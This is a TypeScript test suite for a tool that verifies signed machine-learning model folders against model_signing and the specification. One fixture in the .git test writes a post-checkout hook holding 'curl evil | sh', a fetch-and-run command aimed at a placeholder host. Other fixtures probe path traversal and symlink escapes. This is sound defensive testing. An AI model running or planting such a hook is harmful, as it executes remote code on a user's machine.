import { createHash, generateKeyPairSync } from 'node:crypto';
import { mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { signModel } from '../../src/api/sign-model.js';
import { isAssayError } from '../../src/core/errors.js';
import {
  bundleOf,
  check,
  codes,
  folderOf,
  KEY,
  type Row,
  scratch,
  sha256,
  statementOf,
  text,
} from './support.js';

// Where specification, model_signing 1.1.1 and the Go implementation differ, and what is done here. What
// model_signing does was observed with scripts/golden/oms.py; docs/signing.md has the table.
const rows = (names: readonly string[]): Row[] => names.map((name) => [name, sha256(name)]);
const tree = (names: readonly string[]): string =>
  folderOf(Object.fromEntries(names.map((name) => [name, name])));

describe('1: order of resources', () => {
  const names = ['a-b', 'a.txt', 'a/b', '\u{ff5e}', '\u{1f600}'];
  test.each([
    ['code points, as the specification and Go', names, []],
    ['path components, as model_signing', ['a/b', 'a-b', 'a.txt', '\u{ff5e}', '\u{1f600}'], []],
    [
      'UTF-16 units, as a careless sort',
      ['a-b', 'a.txt', 'a/b', '\u{1f600}', '\u{ff5e}'],
      ['RESOURCE_ORDER!'],
    ],
    ['none', ['a/b', '\u{ff5e}', 'a.txt', '\u{1f600}', 'a-b'], ['RESOURCE_ORDER!']],
  ])('%s: the root digest is over the list as it stands', async (_, order, expected) => {
    const verification = await check(tree(names), bundleOf(statementOf(rows(order))));
    expect(codes(verification)).toEqual(expected);
    expect(verification.ok).toBe(true);
  });
});

describe('2: shards', () => {
  const content = 'x'.repeat(80);
  const folder = folderOf({ w: content });
  const shards = Array.from({ length: 12 }, (_, i): Row => {
    const end = Math.min(7 * i + 7, 80);
    return [`w:${7 * i}:${end}`, sha256(content.slice(7 * i, end))];
  });
  const byText = [...shards].sort(([a], [b]) => (a < b ? -1 : 1));
  const method = { method: 'shards', shard_size: 7 };
  test.each([
    ['by number, as model_signing', shards, 'sha256'],
    ['by text, as the specification and Go', byText, 'sha256'],
    ['with the algorithm model_signing names', shards, 'sha256-sharded-7'],
  ])('twelve %s', async (_, list, algorithm) => {
    expect(byText).not.toEqual(shards);
    expect(codes(await check(folder, bundleOf(statementOf(list, method, algorithm))))).toEqual([]);
  });

  test('a shard size with a decimal point, as model_signing writes and cannot read', async () => {
    const payload = JSON.stringify(statementOf(shards, method)).replace('"shard_size":7', '"shard_size":7.0');
    expect(payload).toContain('7.0');
    expect(codes(await check(folder, bundleOf(payload)))).toEqual([]);
  });

  test('an algorithm that names another shard size', async () => {
    const bundle = bundleOf(statementOf(shards, method, 'sha256-sharded-8'));
    expect(codes(await check(folder, bundle))).toEqual(['HASH_UNSUPPORTED']);
  });

  test('empty files are in no shard, and that is told', async () => {
    const verification = await check(
      folderOf({ w: content, '__init__.py': '' }),
      bundleOf(statementOf(shards, method)),
    );
    expect(codes(verification)).toEqual(['FILE_EMPTY_UNSIGNED! __init__.py']);
  });
});

describe('3: a model that is one file', () => {
  const folder = folderOf({ 'weights.bin': 'w' });
  const file = join(folder, 'weights.bin');
  test.each([
    ['".", as model_signing', '.', file, []],
    ['its name, as the specification', 'weights.bin', file, []],
    ['another name', 'other.bin', file, ['FILE_RENAMED other.bin -> weights.bin']],
    ['"." for a folder', '.', folder, ['FILE_RENAMED . -> weights.bin']],
  ])('listed as %s', async (_, name, path, expected) => {
    expect(codes(await check(path, bundleOf(statementOf([[name, sha256('w')]]))))).toEqual(expected);
  });

  test('is signed under its name', async () => {
    const { bundle } = await signModel(file, { privateKey: KEY.privatePem });
    const { predicate, subject } = JSON.parse(
      Buffer.from(JSON.parse(bundle).dsseEnvelope.payload, 'base64').toString(),
    );
    expect([predicate.resources[0].name, subject[0].name]).toEqual(['weights.bin', 'weights.bin']);
    expect(codes(await check(file, bundle))).toEqual([]);
  });
});

test('4: a colon in a name belongs to the path; the range is the last two fields', async () => {
  const method = { method: 'shards', shard_size: 7 };
  const bundle = bundleOf(statementOf([['w:1:0:5', sha256('colon')]], method));
  expect(codes(await check(folderOf({ 'w:1': 'colon' }), bundle))).toEqual([]);
});

test('5: a certificate is held against now, not against its own first day', async () => {
  const trust = { authorities: text('model_signing-1.1.1/root.pem') };
  const verification = await check(folderOf({ good: 'good' }), text('chains/expired.sig'), { trust });
  expect(codes(verification)).toEqual(['CERTIFICATE_EXPIRED']);
});

test.each(['blake2b', 'blake2'])('6: BLAKE2b may be called %s', async (name) => {
  const digest = createHash('blake2b512').update('good').digest('hex');
  const bundle = bundleOf(statementOf([['good', digest]], { hash_type: name }, name));
  expect(codes(await check(folderOf({ good: 'good' }), bundle))).toEqual([]);
  expect(codes(await check(folderOf({ good: 'evil' }), bundle))).toEqual(['FILE_CHANGED good']);
});

describe('7: RSA and Ed25519 keys, which Go also takes', () => {
  const pems = [generateKeyPairSync('rsa', { modulusLength: 2048 }), generateKeyPairSync('ed25519')].map(
    ({ privateKey, publicKey }) => ({
      privateKey: privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
      publicKey: publicKey.export({ type: 'spki', format: 'pem' }) as string,
    }),
  );
  test('are refused, for signing and for verifying', async () => {
    const folder = folderOf({ good: 'good' });
    for (const { privateKey, publicKey } of pems) {
      const sign = signModel(folder, { privateKey });
      await expect(sign).rejects.toSatisfy((error) => isAssayError(error, 'USAGE'));
      const verify = check(folder, bundleOf(statementOf(rows(['good']))), { trust: { publicKey } });
      await expect(verify).rejects.toSatisfy((error) => isAssayError(error, 'USAGE'));
    }
  });
});

describe('8: what the root digest does not commit to', () => {
  test('a rename keeps it and is found by the names', async () => {
    const folder = folderOf({ good: 'good' });
    const { bundle, rootDigest } = await signModel(folder, { privateKey: KEY.privatePem });
    renameSync(join(folder, 'good'), join(folder, 'best'));
    const again = await signModel(folder, { privateKey: KEY.privatePem });
    expect(again.rootDigest).toBe(rootDigest);
    expect(codes(await check(folder, bundle))).toEqual(['FILE_RENAMED good -> best']);
  });

  test('a name that is listed twice is refused, whichever digest is right', async () => {
    const [good, evil] = [sha256('good'), sha256('evil')];
    for (const list of [
      [good, evil],
      [evil, good],
      [good, good],
    ]) {
      const bundle = bundleOf(statementOf(list.map((digest): Row => ['good', digest])));
      expect(codes(await check(folderOf({ good: 'good' }), bundle))).toEqual(['RESOURCE_DUPLICATE good']);
    }
  });
});

test('9: .git is never hashed, and is named as not covered', async () => {
  const folder = folderOf({ good: 'good', '.git/hooks/post-checkout': 'curl evil | sh' });
  const verification = await check(folder, bundleOf(statementOf([['good', sha256('good')]])));
  expect(verification).toMatchObject({ ok: true, ignored: ['.git'] });
});

describe('further ones', () => {
  const good: Row = ['good', sha256('good')];

  test('a hint that names another key: the signature decides, and the hint is told', async () => {
    const bundle = bundleOf(statementOf([good]), { hint: '0'.repeat(64) });
    expect(codes(await check(folderOf({ good: 'good' }), bundle))).toEqual(['KEY_HINT_MISMATCH!']);
  });

  test('an ignore path of "." or one with a pattern hides nothing', async () => {
    const bundle = bundleOf(statementOf([good], { ignore_paths: ['.', '*', '../x', 'cache'] }));
    const folder = folderOf({ good: 'good', evil: '', 'cache/x': '' });
    const verification = await check(folder, bundle);
    expect(codes(verification)).toEqual([
      'FILE_EXTRA evil',
      'IGNORE_PATH_UNSAFE! .',
      'IGNORE_PATH_UNSAFE! *',
      'IGNORE_PATH_UNSAFE! ../x',
    ]);
    expect(verification.ignored).toEqual(['cache']);
  });

  test('digests are lower-case', async () => {
    const bundle = bundleOf(statementOf([['good', sha256('good').toUpperCase()]]));
    expect(codes(await check(folderOf({ good: 'good' }), bundle))).toEqual(['DIGEST_INVALID']);
  });

  test('links that the signer allowed are followed inside the folder only, and never to folders', async () => {
    const bundle = bundleOf(statementOf([good, ['link', sha256('good')]], { allow_symlinks: true }));
    const folder = folderOf({ good: 'good' });
    symlinkSync('good', join(folder, 'link'));
    expect(codes(await check(folder, bundle))).toEqual([]);
    const outside = join(scratch(), 'good');
    writeFileSync(outside, 'good');
    const leaving = folderOf({ good: 'good' });
    symlinkSync(outside, join(leaving, 'link'));
    mkdirSync(join(leaving, 'part'));
    symlinkSync('part', join(leaving, 'parts'));
    expect(codes(await check(leaving, bundle))).toEqual(['FILE_LINK link', 'FILE_LINK parts']);
  });
});
